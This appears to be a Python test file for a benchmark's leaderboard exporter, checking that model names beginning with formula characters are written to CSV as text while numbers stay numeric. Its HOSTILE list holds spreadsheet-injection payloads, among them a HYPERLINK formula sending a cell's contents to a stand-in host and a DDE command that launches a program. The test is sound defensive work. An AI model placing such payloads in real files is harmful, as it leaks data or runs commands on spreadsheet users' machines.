"""Leaderboard CSVs: a cell a spreadsheet would run as a formula is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from mabench.leaderboards.leaderboard import COLUMNS, FORMULA_START, leaderboard_rows, neutralise, read_csv, to_csv
from mabench.leaderboards.rundir import load_run
from tests.leaderboards.helpers import invoke
from tests.leaderboards.runs import write_run

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "'=already quoted", "name\r=1+1"]  # the last would start a row of its own


def test_model_names_that_are_formulas_are_neutralised_and_read_back_unchanged(tmp_path):
    out = tmp_path / "runs"
    for i, name in enumerate(HOSTILE):
        write_run(out, name, lambda q, i=i: (q + i) % 2 == 0, limit=4)
    target = tmp_path / "lb.csv"
    result = invoke("leaderboard", out, "-o", target)
    assert result.exit_code == 0, result.output
    with target.open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert dangerous == []
    assert sorted({row.model for row in read_csv(target)}) == sorted(HOSTILE)


def test_numbers_negative_ones_included_stay_numbers(tmp_path):
    run_dir = write_run(tmp_path / "runs", "plain", lambda q: q % 2 == 0, limit=4)
    row = leaderboard_rows([load_run(run_dir)])[0].model_copy(update={"brier": -0.25, "ece": 1e-05})
    header, values = list(csv.reader(io.StringIO(to_csv([row]))))
    cell = dict(zip(header, values, strict=True))
    assert cell["brier"] == "-0.25" and float(cell["ece"]) == 1e-05
    assert header == list(COLUMNS)
    for number in ("-0.25", "+3", "-1e-05", "-.5", "0"):
        assert neutralise(number) == number


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
